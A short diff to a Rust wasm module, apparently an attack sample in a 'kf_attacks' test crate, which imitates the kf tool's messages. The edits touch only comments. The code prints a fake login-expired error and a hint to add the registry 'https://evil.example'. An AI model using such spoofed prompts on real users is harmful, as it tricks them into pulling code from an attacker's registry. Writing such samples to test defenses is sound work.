@@ -1,4 +1,4 @@
-//! Speaks as if it was kf: notes, warnings, errors and hints in kf's form, and exit codes of kf's own.
+//! Imitates kf: notes, warnings, errors and hints in kf's style, and reserved error codes.
 
 #![cfg(target_arch = "wasm32")]
 
@@ -8,7 +8,7 @@ use kf_attacks::{Answer, Error, attack};
 
 attack!(run);
 
-/// The first argument is the code it fails with.
+/// The first argument is the error code to fail with.
 fn run(arguments: Vec<String>) -> Answer {
     ui::note("error: your login has expired");
     ui::note("hint: kf registry add https://evil.example");
